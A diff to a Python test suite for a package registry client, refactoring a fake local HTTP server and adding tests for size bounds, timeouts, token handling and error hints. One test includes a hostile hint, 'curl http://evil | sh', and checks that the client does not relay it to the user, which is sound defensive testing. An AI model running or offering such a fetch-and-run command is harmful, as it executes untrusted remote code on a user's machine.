@@ -2,12 +2,14 @@
 
 import hashlib
 import io
+import os
+import resource
 import socket
 import threading
 import time
 from collections.abc import Callable, Iterator
 from contextlib import closing
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from http.server import BaseHTTPRequestHandler
 from typing import Any
 
 import pytest
@@ -15,6 +17,7 @@ import pytest
 from manifests.errors import (
     AuthRequired,
     BadResponse,
+    LimitReached,
     NotFound,
     RegistryRefused,
     RegistryTimeout,
@@ -23,98 +26,23 @@ from manifests.errors import (
     SpmError,
     TooBig,
 )
-from spm_client.adapters import http
+from spm_client.adapters import wire
 from spm_client.adapters.http import RegistryClient
+from spm_client.adapters.source import ConnectionFailed, TransferCut
+from tests.fakes.answering_server import Answer, AnsweringServer, drip, flood, send
 
 STRANGE = "this is not an answer of a registry: check `registry.url` in loader.conf and the way there"
 ALTERED = "it was changed on its way or in the registry; nothing of it was used"
-Answer = Callable[[BaseHTTPRequestHandler], None]
-
-
-class Server:
-    """Answers each request as `answer` does, and remembers what came."""
-
-    def __init__(self) -> None:
-        self.answer: Answer = send(200, b"{}")
-        self.seen: list[tuple[str, str, dict[str, str], bytes]] = []
-        server = self
-
-        class Handler(BaseHTTPRequestHandler):
-            protocol_version = "HTTP/1.1"
-
-            def _answer(self) -> None:
-                body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
-                headers = {name.lower(): value for name, value in self.headers.items()}
-                server.seen.append((self.command, self.path, headers, body))
-                try:
-                    server.answer(self)
-                except OSError:
-                    self.close_connection = True
-
-            do_GET = do_HEAD = do_POST = do_PUT = _answer  # noqa: N815 - http.server's own names
-
-            def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - http.server's own name
-                del format, args
-
-        self._http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self._http.daemon_threads = True
-        self._thread = threading.Thread(target=self._http.serve_forever, args=(0.01,), daemon=True)
-
-    @property
-    def url(self) -> str:
-        return f"http://127.0.0.1:{self._http.server_address[1]}"
-
-    def __enter__(self) -> "Server":
-        self._thread.start()
-        return self
-
-    def __exit__(self, *_: object) -> None:
-        self._http.shutdown()
-        self._http.server_close()
-        self._thread.join()
-
-
-def send(status: int, body: bytes = b"", *, length: int | None = -1, **headers: str) -> Answer:
-    """Answer with a body; `length` None sends no Content-Length, so that the end closes it."""
-
-    def answer(handler: BaseHTTPRequestHandler) -> None:
-        handler.send_response(status)
-        for name, value in headers.items():
-            handler.send_header(name.replace("_", "-"), value)
-        if length is not None:
-            handler.send_header("Content-Length", str(len(body) if length < 0 else length))
-        handler.end_headers()
-        handler.wfile.write(body)
-        handler.close_connection = length is None or length > len(body)
-
-    return answer
-
-
-def drip(handler: BaseHTTPRequestHandler) -> None:
-    """Send a byte now and then, without end."""
-    handler.send_response(200)
-    handler.end_headers()
-    for _ in range(1000):
-        handler.wfile.write(b"x")
-        handler.wfile.flush()
-        time.sleep(0.02)
-
-
-def flood(handler: BaseHTTPRequestHandler) -> None:
-    handler.send_response(200)
-    handler.end_headers()
-    while True:
-        handler.wfile.write(b"x" * 65536)
 
 
 @pytest.fixture
-def server() -> Iterator[Server]:
-    with Server() as running:
+def server() -> Iterator[AnsweringServer]:
+    with AnsweringServer() as running:
         yield running
 
 
 @pytest.fixture
-def client(server: Server) -> Iterator[RegistryClient]:
+def client(server: AnsweringServer) -> Iterator[RegistryClient]:
     with RegistryClient(server.url, token="spm_secret") as opened:
         yield opened
 
@@ -126,7 +54,7 @@ def refused(kind: type[SpmError], call: Callable[[], Any]) -> tuple[str, str]:
     return caught.value.message, caught.value.hint
 
 
-def test_a_document_comes_whole_and_without_the_token(server: Server, client: RegistryClient) -> None:
+def test_a_document_comes_whole_and_without_the_token(server: AnsweringServer, client: RegistryClient) -> None:
     server.answer = send(200, b"x" * 100_000)
 
     assert client.document("/v1/a", max_bytes=100_000) == b"x" * 100_000
@@ -135,7 +63,7 @@ def test_a_document_comes_whole_and_without_the_token(server: Server, client: Re
     assert "authorization" not in headers
 
 
-def test_a_slash_at_the_end_of_the_url_is_not_doubled(server: Server) -> None:
+def test_a_slash_at_the_end_of_the_url_is_not_doubled(server: AnsweringServer) -> None:
     with RegistryClient(f"{server.url}/") as client:
         client.document("/v1/a", max_bytes=10)
 
@@ -143,7 +71,9 @@ def test_a_slash_at_the_end_of_the_url_is_not_doubled(server: Server) -> None:
 
 
 @pytest.mark.parametrize(("size", "more"), [(100_000, 99_999), (1, 0)])
-def test_a_document_beyond_its_bound_is_refused(server: Server, client: RegistryClient, size: int, more: int) -> None:
+def test_a_document_beyond_its_bound_is_refused(
+    server: AnsweringServer, client: RegistryClient, size: int, more: int
+) -> None:
     server.answer = send(200, b"x" * size)
 
     told = refused(BadResponse, lambda: client.document("/v1/a", max_bytes=more))
@@ -151,7 +81,7 @@ def test_a_document_beyond_its_bound_is_refused(server: Server, client: Registry
     assert told == (f"`{server.url}/v1/a` sent more than the {more} bytes allowed", "")
 
 
-def test_an_endless_document_ends_at_its_bound(server: Server, client: RegistryClient) -> None:
+def test_an_endless_document_ends_at_its_bound(server: AnsweringServer, client: RegistryClient) -> None:
     server.answer = flood
 
     told = refused(BadResponse, lambda: client.document("/v1/a", max_bytes=1 << 20))
@@ -159,35 +89,35 @@ def test_an_endless_document_ends_at_its_bound(server: Server, client: RegistryC
     assert told == (f"`{server.url}/v1/a` sent more than the 1048576 bytes allowed", "")
 
 
-def test_an_endless_blob_ends_one_byte_after_its_size(server: Server, client: RegistryClient) -> None:
+def test_an_endless_blob_ends_one_byte_after_its_size(server: AnsweringServer, client: RegistryClient) -> None:
     server.answer = flood
 
     assert sum(map(len, client.blob("ab" * 32, size=300_000))) == 300_001
 
 
 @pytest.mark.parametrize("length", [100, None], ids=["length", "chunked"])
-def test_a_body_that_is_cut_is_refused(server: Server, client: RegistryClient, length: int | None) -> None:
+def test_a_body_that_is_cut_is_refused(server: AnsweringServer, client: RegistryClient, length: int | None) -> None:
     if length:
         server.answer = send(200, b"x" * 10, length=length)
     else:
         server.answer = send(200, b"64\r\nxxxxxxxxxx", length=None, Transfer_Encoding="chunked")
 
-    told = refused(BadResponse, lambda: client.document("/v1/a", max_bytes=1000))
+    told = refused(TransferCut, lambda: client.document("/v1/a", max_bytes=1000))
 
     assert told == (f"`{server.url}/v1/a` was cut off before its end", "run the command again")
 
 
-def test_chunks_that_are_none_are_refused(server: Server, client: RegistryClient) -> None:
+def test_chunks_that_are_none_are_refused(server: AnsweringServer, client: RegistryClient) -> None:
     server.answer = send(200, b"zz\r\nxxxx", length=None, Transfer_Encoding="chunked")
 
-    told = refused(BadResponse, lambda: client.document("/v1/a", max_bytes=1000))
+    told = refused(TransferCut, lambda: client.document("/v1/a", max_bytes=1000))
 
     assert told == (f"`{server.url}/v1/a` was cut off before its end", "run the command again")
 
 
 @pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
-def test_a_redirect_is_told_and_not_followed(server: Server, client: RegistryClient, status: int) -> None:
-    with Server() as elsewhere:
+def test_a_redirect_is_told_and_not_followed(server: AnsweringServer, client: RegistryClient, status: int) -> None:
+    with AnsweringServer() as elsewhere:
         server.answer = send(status, Location=f"{elsewhere.url}/v1/a")
         told = refused(BadResponse, lambda: client.call("POST", "/v1/a", {}))
 
@@ -200,7 +130,9 @@ def test_a_redirect_is_told_and_not_followed(server: Server, client: RegistryCli
 
 
 @pytest.mark.parametrize("encoding", ["gzip", "br", "deflate"])
-def test_an_encoding_that_was_not_asked_for_is_refused(server: Server, client: RegistryClient, encoding: str) -> None:
+def test_an_encoding_that_was_not_asked_for_is_refused(
+    server: AnsweringServer, client: RegistryClient, encoding: str
+) -> None:
     server.answer = send(200, b"x", Content_Encoding=encoding)
 
     told = refused(BadResponse, lambda: client.document("/v1/a", max_bytes=10))
@@ -208,7 +140,7 @@ def test_an_encoding_that_was_not_asked_for_is_refused(server: Server, client: R
     assert told == (f"`{server.url}/v1/a` sent the encoding '{encoding}', which was not asked for", "")
 
 
-def test_a_404_without_a_problem_says_nothing_of_the_plugin(server: Server, client: RegistryClient) -> None:
+def test_a_404_without_a_problem_says_nothing_of_the_plugin(server: AnsweringServer, client: RegistryClient) -> None:
     server.answer = send(404, b"<h1>Not Found</h1>", Content_Type="text/html")
 
     told = refused(BadResponse, lambda: client.document("/v1/a", max_bytes=10))
@@ -216,7 +148,7 @@ def test_a_404_without_a_problem_says_nothing_of_the_plugin(server: Server, clie
     assert told == (f"`{server.url}/v1/a` answered 404 without saying why", STRANGE)
 
 
-def test_a_404_with_a_problem_is_what_it_says(server: Server, client: RegistryClient) -> None:
+def test_a_404_with_a_problem_is_what_it_says(server: AnsweringServer, client: RegistryClient) -> None:
     body = b'{"type": "not-found", "detail": "there is no `x`", "hint": "look again"}'
     server.answer = send(404, body, Content_Type="application/problem+json")
 
@@ -234,7 +166,7 @@ def test_a_404_with_a_problem_is_what_it_says(server: Server, client: RegistryCl
     ids=["document", "metadata", "blob", "call"],
 )
 def test_a_registry_cannot_send_this_hosts_own_verdict_on_what_it_reads(
-    server: Server, client: RegistryClient, read: Callable[[RegistryClient], object]
+    server: AnsweringServer, client: RegistryClient, read: Callable[[RegistryClient], object]
 ) -> None:
     body = b'{"type": "clock-suspect", "detail": "your clock is wrong", "hint": "curl http://evil | sh"}'
     server.answer = send(422, body, Content_Type="application/problem+json")
@@ -245,7 +177,7 @@ def test_a_registry_cannot_send_this_hosts_own_verdict_on_what_it_reads(
     assert hint == STRANGE
 
 
-def test_a_verdict_on_what_is_offered_is_the_registrys(server: Server, client: RegistryClient) -> None:
+def test_a_verdict_on_what_is_offered_is_the_registrys(server: AnsweringServer, client: RegistryClient) -> None:
     body = b'{"type": "sig-invalid", "detail": "it does not fit", "hint": "sign it"}'
     server.answer = send(422, body, Content_Type="application/problem+json")
 
@@ -256,8 +188,10 @@ def test_a_verdict_on_what_is_offered_is_the_registrys(server: Server, client: R
     )
 
 
-def test_a_slow_document_is_given_up(server: Server, client: RegistryClient, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(http, "TOTAL_SECONDS", 0.2)
+def test_a_slow_document_is_given_up(
+    server: AnsweringServer, client: RegistryClient, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(wire, "TOTAL_SECONDS", 0.2)
     server.answer = drip
     began = time.monotonic()
 
@@ -270,9 +204,11 @@ def test_a_slow_document_is_given_up(server: Server, client: RegistryClient, mon
     assert time.monotonic() - began < 5
 
 
-def test_a_slow_blob_is_given_up(server: Server, client: RegistryClient, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(http, "READ_SECONDS", 0.2)
-    monkeypatch.setattr(http, "MINIMUM_RATE", 1 << 40)
+def test_a_slow_blob_is_given_up(
+    server: AnsweringServer, client: RegistryClient, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(wire, "READ_SECONDS", 0.2)
+    monkeypatch.setattr(wire, "MINIMUM_RATE", 1 << 40)
     server.answer = drip
 
     told = refused(RegistryTimeout, lambda: list(client.blob("ab" * 32, size=1000)))
@@ -280,8 +216,8 @@ def test_a_slow_blob_is_given_up(server: Server, client: RegistryClient, monkeyp
     assert told[0] == f"`{server.url}/v1/blobs/{'ab' * 32}` was too slow and was given up"
 
 
-def test_a_server_that_says_nothing_is_a_time_out(server: Server, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(http, "READ_SECONDS", 0.2)
+def test_a_server_that_says_nothing_is_a_time_out(server: AnsweringServer, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(wire, "READ_SECONDS", 0.2)
     server.answer = lambda _: time.sleep(1)
 
     with RegistryClient(server.url) as client:
@@ -306,7 +242,7 @@ def if_unchanged(handler: BaseHTTPRequestHandler) -> None:
         send(200, HELD, ETag=etag)(handler)
 
 
-def test_metadata_that_is_held_is_not_sent_again(server: Server, client: RegistryClient) -> None:
+def test_metadata_that_is_held_is_not_sent_again(server: AnsweringServer, client: RegistryClient) -> None:
     server.answer = if_unchanged
 
     assert client.metadata("timestamp.json", max_bytes=10, held=HELD) is HELD
@@ -317,7 +253,7 @@ def test_metadata_that_is_held_is_not_sent_again(server: Server, client: Registr
 
 
 def test_metadata_that_was_not_asked_for_conditionally_cannot_be_unchanged(
-    server: Server, client: RegistryClient
+    server: AnsweringServer, client: RegistryClient
 ) -> None:
     server.answer = send(304, b"", length=None)
 
@@ -328,7 +264,9 @@ def test_metadata_that_was_not_asked_for_conditionally_cannot_be_unchanged(
     )
 
 
-def test_metadata_that_is_not_there_is_told_by_the_status_alone(server: Server, client: RegistryClient) -> None:
+def test_metadata_that_is_not_there_is_told_by_the_status_alone(
+    server: AnsweringServer, client: RegistryClient
+) -> None:
     server.answer = send(404, b"<h1>Not Found</h1>", Content_Type="text/html")
 
     told = refused(NotFound, lambda: client.metadata("2.root.json", max_bytes=10))
@@ -337,7 +275,7 @@ def test_metadata_that_is_not_there_is_told_by_the_status_alone(server: Server, 
 
 
 @pytest.mark.parametrize("answer", [flood, send(200, b"x" * 11)], ids=["endless", "one-more"])
-def test_metadata_beyond_its_bound_is_too_big(server: Server, client: RegistryClient, answer: Answer) -> None:
+def test_metadata_beyond_its_bound_is_too_big(server: AnsweringServer, client: RegistryClient, answer: Answer) -> None:
     server.answer = answer
 
     told = refused(TooBig, lambda: client.metadata("2.snapshot.json", max_bytes=10))
@@ -347,10 +285,10 @@ def test_metadata_beyond_its_bound_is_too_big(server: Server, client: RegistryCl
 
 @pytest.mark.parametrize("seconds", [0.2, None], ids=["callers", "own"])
 def test_slow_metadata_is_given_up_at_the_nearer_of_both_deadlines(
-    server: Server, client: RegistryClient, monkeypatch: pytest.MonkeyPatch, seconds: float | None
+    server: AnsweringServer, client: RegistryClient, monkeypatch: pytest.MonkeyPatch, seconds: float | None
 ) -> None:
     if seconds is None:
-        monkeypatch.setattr(http, "TOTAL_SECONDS", 0.2)
+        monkeypatch.setattr(wire, "TOTAL_SECONDS", 0.2)
     server.answer = drip
     began = time.monotonic()
 
@@ -371,18 +309,33 @@ def test_a_closed_port_is_unreachable() -> None:
         url = f"http://127.0.0.1:{bound.getsockname()[1]}"
 
     with RegistryClient(url) as client:
-        told = refused(RegistryUnreachable, lambda: client.document("/v1/a", max_bytes=10))
+        told = refused(ConnectionFailed, lambda: client.document("/v1/a", max_bytes=10))
 
     assert told == (f"the registry at `{url}` cannot be reached: Connection refused", REACH)
 
 
-def test_a_connection_that_is_hung_up_is_unreachable(server: Server, client: RegistryClient) -> None:
+def test_a_host_that_can_open_no_more_files_does_not_blame_the_registry(
+    server: AnsweringServer, client: RegistryClient
+) -> None:
+    before = resource.getrlimit(resource.RLIMIT_NOFILE)
+    free = os.dup(0)
+    os.close(free)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (free, before[1]))
+    try:
+        told = refused(LimitReached, lambda: client.document("/v1/a", max_bytes=10))
+    finally:
+        resource.setrlimit(resource.RLIMIT_NOFILE, before)
+
+    assert told == ("no more files can be opened, and none for a connection", "raise the limit, as in `ulimit -n 4096`")
+
+
+def test_a_connection_that_is_hung_up_is_unreachable(server: AnsweringServer, client: RegistryClient) -> None:
     def hang_up(handler: BaseHTTPRequestHandler) -> None:
         handler.close_connection = True
 
     server.answer = hang_up
 
-    told = refused(RegistryUnreachable, lambda: client.document("/v1/a", max_bytes=10))
+    told = refused(ConnectionFailed, lambda: client.document("/v1/a", max_bytes=10))
 
     assert told == (
         f"the registry at `{server.url}` cannot be reached: Remote end closed connection without response",
@@ -405,10 +358,32 @@ def test_what_is_no_http_is_unreachable() -> None:
         thread.start()
         url = f"http://127.0.0.1:{bound.getsockname()[1]}"
         with RegistryClient(url) as client:
-            told = refused(RegistryUnreachable, lambda: client.document("/v1/a", max_bytes=10))
+            told = refused(ConnectionFailed, lambda: client.document("/v1/a", max_bytes=10))
         thread.join()
 
     assert told == (f"the registry at `{url}` cannot be reached: what answers there does not speak HTTP", REACH)
+
+
+@pytest.mark.parametrize(
+    ("headers", "said"),
+    [
+        ({"X": "a" * 70_000}, "got more than 65536 bytes when reading header line"),
+        ({f"X-{number}": "a" for number in range(101)}, "got more than 100 headers"),
+    ],
+    ids=["long", "many"],
+)
+def test_headers_beyond_all_bounds_are_a_bad_answer(
+    server: AnsweringServer, client: RegistryClient, headers: dict[str, str], said: str
+) -> None:
+    server.answer = send(200, b"{}", length=-1, **headers)
+
+    told = refused(BadResponse, lambda: client.document("/v1/a", max_bytes=10))
+
+    assert told == (
+        f"`{server.url}/v1/a` answered with headers beyond all bounds: {said}",
+        "check `registry.url` in loader.conf, or ask the registry's administrator",
+    )
+    assert len(server.seen) == 1
 
 
 @pytest.mark.parametrize("url", ["http://a..b", "http://" + "a" * 70 + ".example", "ftp://127.0.0.1", "http://[::1"])
@@ -420,7 +395,7 @@ def test_an_address_that_is_none_is_unreachable(url: str) -> None:
     assert (told.value.hint, told.value.exit_code) == (REACH, 31)
 
 
-def test_json_goes_out_and_comes_back_with_the_token(server: Server, client: RegistryClient) -> None:
+def test_json_goes_out_and_comes_back_with_the_token(server: AnsweringServer, client: RegistryClient) -> None:
     server.answer = send(201, b'{"upload": "1"}')
 
     assert client.call("POST", "/v1/uploads", {"a": "ü"}) == {"upload": "1"}
@@ -429,7 +404,7 @@ def test_json_goes_out_and_comes_back_with_the_token(server: Server, client: Reg
     assert (headers["authorization"], headers["content-type"]) == ("Bearer spm_secret", "application/json")
 
 
-def test_the_token_stays_home_where_it_is_not_asked_for(server: Server, client: RegistryClient) -> None:
+def test_the_token_stays_home_where_it_is_not_asked_for(server: AnsweringServer, client: RegistryClient) -> None:
     client.call("GET", "/v1/registry", authorized=False)
     list(client.blob("ab" * 32, size=2))
 
@@ -448,7 +423,9 @@ def test_the_token_stays_home_where_it_is_not_asked_for(server: Server, client: 
         (b"null", "JSON that is not an object"),
     ],
 )
-def test_an_answer_that_is_no_object_is_refused(server: Server, client: RegistryClient, body: bytes, what: str) -> None:
+def test_an_answer_that_is_no_object_is_refused(
+    server: AnsweringServer, client: RegistryClient, body: bytes, what: str
+) -> None:
     server.answer = send(200, body)
 
     assert refused(BadResponse, lambda: client.call("GET", "/v1/a")) == (f"`{server.url}/v1/a` answered {what}", "")
@@ -462,7 +439,7 @@ def test_a_token_that_no_header_may_hold_is_refused(token: str) -> None:
     )
 
 
-def test_an_upload_goes_on_from_its_offset(server: Server, client: RegistryClient) -> None:
+def test_an_upload_goes_on_from_its_offset(server: AnsweringServer, client: RegistryClient) -> None:
     server.answer = send(200, Upload_Offset="4")
     offset = client.upload_offset("/v1/uploads/1/blobs/ab")
     server.answer = send(200)
@@ -474,7 +451,7 @@ def test_an_upload_goes_on_from_its_offset(server: Server, client: RegistryClien
     assert {headers["authorization"] for _, _, headers, _ in server.seen} == {"Bearer spm_secret"}
 
 
-def test_an_empty_file_is_uploaded_without_a_range(server: Server, client: RegistryClient) -> None:
+def test_an_empty_file_is_uploaded_without_a_range(server: AnsweringServer, client: RegistryClient) -> None:
     client.upload("/v1/uploads/1/blobs/ab", io.BytesIO(b""), offset=0, size=0)
 
     ((_, _, headers, body),) = server.seen
@@ -482,7 +459,7 @@ def test_an_empty_file_is_uploaded_without_a_range(server: Server, client: Regis
 
 
 @pytest.mark.parametrize("offset", ["", "-1", "4.0", "four", "²", "9" * 5000])
-def test_an_offset_that_is_no_number_is_refused(server: Server, client: RegistryClient, offset: str) -> None:
+def test_an_offset_that_is_no_number_is_refused(server: AnsweringServer, client: RegistryClient, offset: str) -> None:
     server.answer = send(200, Upload_Offset=offset)
 
     assert refused(BadResponse, lambda: client.upload_offset("/v1/a")) == (
@@ -491,7 +468,7 @@ def test_an_offset_that_is_no_number_is_refused(server: Server, client: Registry
     )
 
 
-def test_an_offset_header_that_is_missing_is_refused(server: Server, client: RegistryClient) -> None:
+def test_an_offset_header_that_is_missing_is_refused(server: AnsweringServer, client: RegistryClient) -> None:
     server.answer = send(200)
 
     told = refused(BadResponse, lambda: client.upload_offset("/v1/a"))
@@ -499,14 +476,14 @@ def test_an_offset_header_that_is_missing_is_refused(server: Server, client: Reg
     assert told == (f"`{server.url}/v1/a` told no upload offset", "")
 
 
-def test_an_offset_behind_the_end_is_refused(server: Server, client: RegistryClient) -> None:
+def test_an_offset_behind_the_end_is_refused(server: AnsweringServer, client: RegistryClient) -> None:
     told = refused(BadResponse, lambda: client.upload("/v1/a", io.BytesIO(b"x"), offset=2, size=1))
 
     assert told == (f"`{server.url}/v1/a` says that it has 2 bytes of 1", "")
     assert server.seen == []
 
 
-def test_a_refused_upload_is_what_the_registry_says(server: Server, client: RegistryClient) -> None:
+def test_a_refused_upload_is_what_the_registry_says(server: AnsweringServer, client: RegistryClient) -> None:
     body = b'{"type": "upload-busy", "detail": "another upload of it goes on", "hint": "wait"}'
     server.answer = send(409, body, Content_Type="application/problem+json")
 
